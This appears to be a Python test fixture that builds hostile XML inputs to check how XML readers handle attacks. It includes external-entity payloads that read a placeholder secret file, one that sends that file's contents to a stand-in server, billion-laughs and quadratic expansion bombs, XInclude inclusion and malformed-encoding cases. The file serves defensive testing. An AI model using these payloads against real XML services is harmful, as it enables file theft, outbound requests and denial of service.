"""Attacks on readers of XML: each is put into the first value of a good document, whatever its dialect."""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass

MIB = 1 << 20
START = re.compile(rb"<[A-Za-z][^<>]*?(/?)>")
ROOT = re.compile(rb"[\w:.-]+")
DECLARATION = b'<?xml version="1.0" encoding="UTF-8"?>'
BLOCK = 100  # in which elements are counted out, so that large files are made quickly


@dataclass(frozen=True)
class Attack:
    """What is put before the root, into the first value and after all that; `told` where it must end in a finding.

    `@SECRET@` stands for the path of a file that must not be read, `@SERVER@` for an address that must not be asked.
    """

    name: str
    doctype: bytes = b""
    value: bytes = b""
    then: Callable[[bytes], bytes] = bytes
    told: bool = True

    def on(self, seed: bytes) -> bytes:
        """Return `seed`, a good document, with the attack in it."""
        start = START.search(seed)
        assert start, "a document begins with a tag"
        root = ROOT.search(start[0])
        assert root
        tag, rest = start[0], seed[start.end() :]
        if start[1]:
            tag, rest = tag[:-2] + b">", b"</" + root[0] + b">"
        place = rest.index(b"</")
        kind = self.doctype.replace(b"@ROOT@", root[0])
        return self.then(b"".join([DECLARATION, kind, tag, rest[:place], self.value, rest[place:]]))


def internal(declared: bytes) -> bytes:
    return b"<!DOCTYPE @ROOT@ [" + declared + b"]>"


def laughs(first: bytes, levels: int, times: int) -> bytes:
    """Entities that each name the one before several times."""
    more = (b'<!ENTITY e%d "%s">' % (n, b"&e%d;" % (n - 1) * times) for n in range(1, levels))
    return b'<!ENTITY e0 "' + first + b'">' + b"".join(more)


def encoded(declared: str, codec: str) -> Callable[[bytes], bytes]:
    """Return a change of the encoding, to `codec`, and of what is declared."""
    return lambda xml: xml.decode().replace("UTF-8", declared).encode(codec)


def cut(numerator: int, denominator: int) -> Callable[[bytes], bytes]:
    return lambda xml: xml[: len(xml) * numerator // denominator]


def numbered(form: bytes, count: int) -> bytes:
    return b"".join(form % n for n in range(count))


ENTITY = b"&x;"
QUICK = (
    Attack("file", internal(b'<!ENTITY x SYSTEM "file://@SECRET@">'), ENTITY),
    Attack("file by a public name", internal(b'<!ENTITY x PUBLIC "-//X" "file://@SECRET@">'), ENTITY),
    Attack("server", internal(b'<!ENTITY x SYSTEM "http://@SERVER@/x">'), ENTITY),
    Attack("ftp", internal(b'<!ENTITY x SYSTEM "ftp://@SERVER@/x">'), ENTITY),
    Attack("parameter file", internal(b'<!ENTITY % p SYSTEM "file://@SECRET@"> %p;'), ENTITY),
    Attack("parameter server", internal(b'<!ENTITY % p SYSTEM "http://@SERVER@/x"> %p;'), ENTITY),
    Attack(
        "parameter that sends",
        internal(
            b'<!ENTITY % f SYSTEM "file://@SECRET@"><!ENTITY % p "<!ENTITY x SYSTEM \'http://@SERVER@/%f;\'>"> %p;'
        ),
        ENTITY,
    ),
    Attack("file beside a DTD", b'<!DOCTYPE @ROOT@ SYSTEM "a.dtd" [<!ENTITY x SYSTEM "file://@SECRET@">]>', ENTITY),
    Attack("DTD file", b'<!DOCTYPE @ROOT@ SYSTEM "file://@SECRET@">'),
    Attack("DTD server", b'<!DOCTYPE @ROOT@ SYSTEM "http://@SERVER@/x">'),
    Attack("DTD server, rightly named", b'<!DOCTYPE @ROOT@ SYSTEM "http://@SERVER@/x.dtd">', told=False),
    Attack("DTD file, rightly named", b'<!DOCTYPE @ROOT@ SYSTEM "file://@SECRET@.dtd">', b"&secret;"),
    Attack(
        "inclusion",
        value=b'<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="file://@SECRET@" parse="text"/>',
        told=False,
    ),
    Attack(
        "schema",
        value=b'<i xmlns:i="http://www.w3.org/2001/XMLSchema-instance" i:schemaLocation="u http://@SERVER@/x"/>',
        told=False,
    ),
    Attack("stylesheet", b'<?xml-stylesheet href="http://@SERVER@/x" type="text/xsl"?>', told=False),
    Attack("billion laughs", internal(laughs(b"lol", 10, 10)), b"&e9;"),
    Attack("billion laughs in an attribute", internal(laughs(b"lol", 10, 10)), b'<i a="&e9;"/>'),
    Attack("quadratic", internal(laughs(b"x" * 100_000, 1, 1)), b"&e0;" * 5_000),
    Attack("entity of itself", internal(b'<!ENTITY x "&y;"><!ENTITY y "&x;">'), ENTITY),
    Attack("entity with half an element", internal(b'<!ENTITY x "<i>">'), ENTITY),
    Attack("entity nobody has", b'<!DOCTYPE @ROOT@ SYSTEM "a.dtd">', b"&nosuch;"),
    Attack("parameter laughs", internal(b'<!ENTITY % a "%b;%b;"><!ENTITY % b "%a;%a;"> %a;'), ENTITY),
    Attack("doctype without end", b"<!DOCTYPE @ROOT@ [" + b"<!-- x -->" * 10_000),
    Attack("deep", value=b"<i>" * 100_000),
    Attack("deep and closed", value=b"<i>" * 5_000 + b"</i>" * 5_000),
    Attack("long attribute", value=b'<i a="' + b"x" * 70_000 + b'"/>'),
    Attack("attribute of 11 MB", value=b'<i a="' + b"x" * 11_000_000 + b'"/>'),
    Attack("text of 11 MB", value=b"x" * 11_000_000),
    Attack("10,000 attributes", value=b"<i" + numbered(b' a%d="1"', 10_000) + b"/>", told=False),
    Attack("10,000 name spaces", value=b"<i" + numbered(b' xmlns:a%d="u"', 10_000) + b"/>", told=False),
    Attack("attribute twice", value=b'<i a="1" a="2"/>'),
    Attack("1,000 new elements", value=numbered(b"<i%d/>", 1_000), told=False),
    Attack("unknown prefix", value=b"<nosuch:i/>"),
    Attack("name of 70,000 letters", value=b"<" + b"i" * 70_000 + b"/>"),
    Attack("null byte", value=b"\x00"),
    Attack("null by number", value=b"&#0;"),
    Attack("surrogate by number", value=b"&#xD800;"),
    Attack("beyond Unicode", value=b"&#x110000;"),
    Attack("control character", value=b"\x1b[31m"),
    Attack("ampersand", value=b" Fish & Chips "),
    Attack("comment without end", value=b"<!-- "),
    Attack("CDATA without end", value=b"<![CDATA[ "),
    Attack("instruction without end", value=b"<?x "),
    Attack("wrong end", value=b"</nosuch>"),
    Attack("latin-1 as UTF-8", value=b"caf\xe9"),
    Attack("overlong UTF-8", value=b"\xc0\xaf"),
    Attack("half a letter", value=b"\xe2\x82"),
    Attack("UTF-16 as UTF-8", then=lambda xml: xml.decode().encode("utf-16-le"), told=False),
    Attack("UTF-8 as UTF-16", then=lambda xml: xml.replace(b"UTF-8", b"UTF-16")),
    Attack("UTF-16 without a mark", then=encoded("UTF-16", "utf-16-be"), told=False),
    Attack("UTF-32", then=encoded("UTF-32", "utf-32"), told=False),
    Attack("UTF-7", value=b"+ADw-i+AD4-", then=encoded("UTF-7", "utf-8")),
    Attack("EBCDIC", then=encoded("cp037", "cp037"), told=False),
    Attack("no such encoding", then=encoded("klingon", "utf-8")),
    Attack("something behind", then=lambda xml: xml + b"<i/>"),
    *(Attack(f"cut at {n}/7", then=cut(n, 7)) for n in range(1, 7)),
    Attack("last byte gone", then=lambda xml: xml.rstrip()[:-1]),
)  # fmt: skip


def elements(count: int, form: bytes = b"<i/>") -> Iterator[bytes]:
    """Yield `count` elements, some hundred thousand at a time."""
    for _ in range(count // 100_000):
        yield form * 100_000


HEAVY = (
    Attack("a million attributes", value=b"<i" + numbered(b' a%d=""', 1_000_000) + b"/>"),
    Attack("a million new elements", value=numbered(b"<i%d/>", 1_000_000), told=False),
    Attack("1.9 million elements", value=b"<i/>" * 1_900_000, told=False),
    Attack("1.9 million elements with text", value=b"<i>x</i>" * 1_900_000, told=False),
    Attack("10 million elements", value=b"<i/>" * 10_000_000),
    Attack("text of 63 MB", value=(b"x" * 1_000_000 + b"<i/>") * 63, told=False),
)
